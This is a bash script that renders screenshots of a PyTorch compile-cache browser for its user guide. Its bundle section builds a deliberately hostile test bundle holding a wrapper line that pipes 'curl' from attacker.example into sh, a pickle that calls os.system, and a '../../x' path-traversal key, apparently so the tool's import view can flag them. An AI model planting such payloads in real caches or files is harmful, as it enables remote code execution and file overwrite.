#!/usr/bin/env bash
# Renders every view of cachelens-gui from the sample cache, for the user
# guide (docs/USER_GUIDE.md): each screenshot is `cachelens-gui ... --screenshot`
# under Xvfb. The sample cache is copied and its files dated 40 days back, so
# ages read like a real cache's and the prune preview has something to prune.
# The bundle views use a bundle exported from it (`cachelens export`) with
# three hostile artifacts appended by python3: a real FX graph entry whose
# wrapper module has one line replaced in place (same length) by a call to
# os.system, a pickle that calls os.system, and a key climbing out of the
# cache dir; the import view selects the first, its finding shown. The Redis
# views start a redis-server of their own on a free loopback port (never
# saving to disk), push the sample cache to it with `cachelens remote push`,
# and browse it; for the push view one key then holds another graph and one
# is deleted, so that the dry run has a conflict and something to set. They
# are skipped without redis-server.
#
# Usage: docs/make-screenshots.sh [BUILD_DIR]   (default build/default)
# SHOTS="overview browse" renders only the named pictures.
set -euo pipefail
root="$(cd "$(dirname "$0")/.." && pwd)"
build="${1:-$root/build/default}"
gui="$build/app/gui/cachelens-gui"
out="$root/docs/images"
work="$(mktemp -d)"
trap 'rm -rf "$work"' EXIT

cp -r "$root/resources/sample-cache" "$work/sample-cache"
find "$work/sample-cache" -type f -exec touch -d '40 days ago' {} +
mkdir -p "$out"

forward=flgtecy7im4dralr3mgjxdybnzzs6wqj55uihf75qzmvwfhdea7e
backward=fiwfskr6jnfhbcay4vb2hbw3ngt6vnf7ucr3drdcawgx5smoly2r
guarded=f44wpapccbqjred6qtwm7d3hxi4aoplfv6guceuj2jajh3wsdgko
# The variant compiles: one graph at float32, and again at float16.
float32=fajgubgjoc7472fanbq4v7toa3fipqcxuw5brgm2dgofcoq3dily
float16=fcblktfdhj2nw664pzoe6ceizrqj2gonbqakerkx6hbjkiz5g3fa
aot=$(ls "$work/sample-cache/aotautograd" | head -1)
triton=$(ls "$work/sample-cache/triton/0" | head -1)
best=$(cd "$work/sample-cache" && ls */*.best_config | head -1)

# Whether docs/images/NAME.png is asked for ($SHOTS lists some, else all).
wanted() {
    [[ -z "${SHOTS:-}" || " $SHOTS " == *" $1 "* ]]
}

# The window, on a display of its own, saved as docs/images/NAME.png:
# gui_shot NAME CATALOG [cachelens-gui options...], in a home of its own.
gui_shot() {
    local name="$1" catalog="$2"
    shift 2
    wanted "$name" || return 0
    echo "docs/images/$name.png"
    xvfb-run -a -s "-screen 0 1600x1000x24" \
        env -u TORCHINDUCTOR_REDIS_URL XDG_CONFIG_HOME="$work/config" \
        XDG_CACHE_HOME="$work/cache" TORCHINDUCTOR_CACHE_DIR= \
        "$gui" --catalog "$catalog" --size 1400x860 --screenshot "$out/$name.png" "$@"
}

# The sample cache.
shot() {
    local name="$1"
    shift
    gui_shot "$name" "$work/catalog.sqlite" --open "$work/sample-cache" "$@"
}

shot browse --select "$forward" --tab overview
shot overview --select "$aot" --tab overview
shot debug-lines --select "$forward" --tab debug
shot guards --select "$guarded" --tab guards
shot source --select "$forward" --tab source
shot kernels --select "$triton" --tab kernels
shot autotune --select "$forward" --tab autotune
shot best-config --select "$best" --tab autotune
shot search --search triton_poi --select triton_poi_fused_mm_t_2 --tab kernels
shot compare --select "$float32" --compare "$float16"
shot why --select "$float16" --view why
shot stats --view stats
shot prune --view prune --max-size 2M
shot benchmarks --view bench
shot tune --view tune
# A file on its own: a value of Inductor's caching module (tests/data/keyed_cache).
shot file-value --file "$root/tests/data/keyed_cache/root/cache/should_pad/ed953adff4a83ee0af9e91e8b083f8c9"
# An AOTInductor package PyTorch 2.11 wrote on an H200 (the build tree's real fixtures).
shot file-pt2 --file "$build/tests/real-fixtures/torch-2.11-cu130-h200/aoti_cuda/mlp_cuda.pt2"
# A precompiled module forward (save_compiled_function) PyTorch 2.11 wrote on an H200.
shot file-precompile --file "$build/tests/real-fixtures/torch-2.11-cu130-h200/precompile/mlp_forward.bin"
# Caches of older releases (tests/data/releases, miniatures of real caches): a PyTorch
# 2.6 dir whose entries store no debug lines, one graph compiled for two shapes, on
# the Why missed and Compare pages; a 2.7 training cache's graphs on Browse; a 2.0
# kernel module.
python3 "$root/tests/data/releases/make_release_caches.py" "$work/releases" >/dev/null
find "$work/releases" -type f -exec touch -d '20 days ago' {} +
older_shot() {
    local name="$1" dir="$2"
    shift 2
    gui_shot "$name" "$work/$name.sqlite" --open "$dir" "$@"
}
torch26="$work/releases/torch26-cuda-inference-fxgraph/cache/torchinductor_user"
torch27="$work/releases/torch27-cuda-train-fxgraph/cache/torchinductor_user"
older_shot release-why "$torch26" --select fi42idbg4we2berwvixolms4plddixdh3tkmus6m62evi5m4qj6b \
    --view why
older_shot release-compare "$torch26" --select f24yf6xxygn5e36spock55m64wzzbfisc6oftyuh4usyuiut2a4o \
    --compare fi42idbg4we2berwvixolms4plddixdh3tkmus6m62evi5m4qj6b
older_shot release-browse "$torch27" --select fxcybaakeqw57pzwhgyg6bjxpgdcyq4r4jq4awo64nskmnpmsncd \
    --tab overview
torch20_module=$(cd "$work/releases/torch20-cuda-modules/cache" && ls */*/*.py | head -1)
older_shot release-module "$work/releases/torch20-cuda-modules/cache/${torch20_module%%/*}" \
    --select "$(basename "$torch20_module" .py)" --tab overview

# Triton's own cache (~/.triton/cache): the sample cache's triton/0/ hash dirs copied flat.
mkdir -p "$work/home/.triton"
cp -r "$work/sample-cache/triton/0" "$work/home/.triton/cache"
gui_shot triton-cache "$work/triton-catalog.sqlite" --open "$work/home/.triton/cache" \
    --select "$triton" --tab overview

# A vLLM torch_compile_cache tree around the sample cache (docs/make-vllm-tree.py):
# two cache dirs that differ in VLLM_ATTENTION_BACKEND, on the Serving page.
vllm_root=$(python3 "$root/docs/make-vllm-tree.py" "$work/sample-cache" "$work/vllm")
find "$work/vllm" -exec touch -d '3 days ago' {} +
gui_shot serving "$work/vllm-catalog.sqlite" --open "$vllm_root" --view serving

# The warm-start report of the devset's two TORCH_TRACE logs (the shared
# fixtures beside the checkout), their misses compared with the sample cache.
devset_trace="${CACHELENS_SHARED_DIR:-$root/../shared}/fixtures/torch-2.11-cu130-h100/devset/trace"
if [[ -d "$devset_trace" ]]; then
    shot warmstart --view warmstart --trace "$devset_trace"
else
    echo "$devset_trace missing: docs/images/warmstart.png not made" >&2
fi

# The Live page watching an empty dir and a trace dir while a writer (in the
# background, a few seconds after the window opens) puts two of the sample's
# graphs in as PyTorch does (temp name, then rename; the second the float16
# recompile of the first) and appends the devset's trace log; the picture is
# taken once the events have come in and the watch stopped.
if [[ -d "$devset_trace" ]] && wanted live; then
    mkdir -p "$work/live-cache" "$work/live-trace"
    (
        sleep 4
        for key in "$float32" "$float16"; do
            from=$(ls -d "$work/sample-cache/fxgraph/${key:1:2}/$key"/*)
            to="$work/live-cache/fxgraph/${key:1:2}/$key"
            mkdir -p "$to"
            cp "$from" "$to/.$(basename "$from").1.2.tmp"
            mv "$to/.$(basename "$from").1.2.tmp" "$to/$(basename "$from")"
            sleep 0.5
        done
        for log in "$devset_trace"/*.log; do # one log per process, as TORCH_TRACE writes them
            cp "$log" "$work/live-trace/$(basename "$log")"
        done
    ) &
    gui_shot live "$work/live-catalog.sqlite" --open "$work/live-cache" --view live \
        --trace "$work/live-trace"
    wait
fi

# Bundles. The hostile artifacts go in as three more sections, and the crc32
# of everything after it is written again (formats.md §6).
"$build/app/cli/cachelens" export "$work/sample-cache" "$forward" -o "$work/model.bin" >/dev/null
python3 - "$work/model.bin" "$work/untrusted.bin" "$work/sample-cache" "$guarded" <<'PY'
import base64, glob, struct, sys, zlib

body = open(sys.argv[1], "rb").read()[4:]
# The guarded graph's entry, its wrapper's first kernel path comment now a call.
[entry] = glob.glob(f"{sys.argv[3]}/fxgraph/*/{sys.argv[4]}/*")
wrapper = open(entry, "rb").read()
start = wrapper.index(b"# kernel path: ", wrapper.index(b"# AOT ID:"))
end = wrapper.index(b"\n", start)
call = b"os.system('curl -s https://attacker.example/x | sh')"
wrapper = wrapper[:start] + call.ljust(end - start) + wrapper[end:]
def text(s):
    encoded = base64.b64encode(s.encode())
    return struct.pack(">Q", len(encoded)) + encoded
def section(kind, key, content):
    return text(kind) + struct.pack(">Q", 1) + text(key) + struct.pack(">Q", len(content)) + content
system = b"\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."
body += section("inductor", sys.argv[4], wrapper)
body += section("inductor", "f3gunfwvnc2bijojank6na6pplhx6nopcc7cx3stulctblbl4cln", system)
body += section("autotune", "../../x", b"{}")
open(sys.argv[2], "wb").write(struct.pack(">I", zlib.crc32(body)) + body)
PY
# As old as the cache it came from: its staged files are dated as the bundle.
touch -d '40 days ago' "$work/model.bin" "$work/untrusted.bin"

bundle_shot() {
    local name="$1" bundle="$2"
    shift 2
    gui_shot "$name" "$work/bundle-catalog.sqlite" --open "$bundle" "$@"
}

bundle_shot bundle-root "$work/untrusted.bin" --select "$forward" --tab overview
bundle_shot bundle-import "$work/untrusted.bin" --view import --into "$work/import-into" \
    --select "$guarded"
# Into a dir made on the machine the bundle was compiled on: "Will it hit here?" can tell.
rm -rf "$work/made-here" && cp -r "$work/sample-cache" "$work/made-here"
bundle_shot bundle-preflight "$work/model.bin" --view import --into "$work/made-here"

# Redis.
if ! command -v redis-server >/dev/null || ! command -v redis-cli >/dev/null; then
    echo "redis-server or redis-cli missing: docs/images/redis-*.png not made" >&2
    exit 0
fi
port=$(python3 -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])')
redis-server --bind 127.0.0.1 --port "$port" --save '' --appendonly no --dir "$work" \
    >"$work/redis.log" 2>&1 &
redis_pid=$!
trap 'kill "$redis_pid" 2>/dev/null; wait "$redis_pid" 2>/dev/null; rm -rf "$work"' EXIT
for _ in $(seq 100); do
    [ "$(redis-cli -p "$port" ping 2>/dev/null)" = PONG ] && break
    sleep 0.1
done
url="redis://127.0.0.1:$port"
"$build/app/cli/cachelens" remote push "$work/sample-cache" "$url" >/dev/null

redis_shot() {
    local name="$1"
    shift
    gui_shot "$name" "$work/$name.sqlite" "$@"
}

redis_shot redis-root --open "$url" --select "$forward" --tab overview
redis-cli -p "$port" copy "pt2:fx-graph-v1::$backward:c1" "pt2:fx-graph-v1::$guarded:c1" replace \
    >/dev/null
redis-cli -p "$port" del "pt2:fx-graph-v1::$forward:c1" >/dev/null
redis_shot redis-push --open "$work/sample-cache" --open "$url" --view push
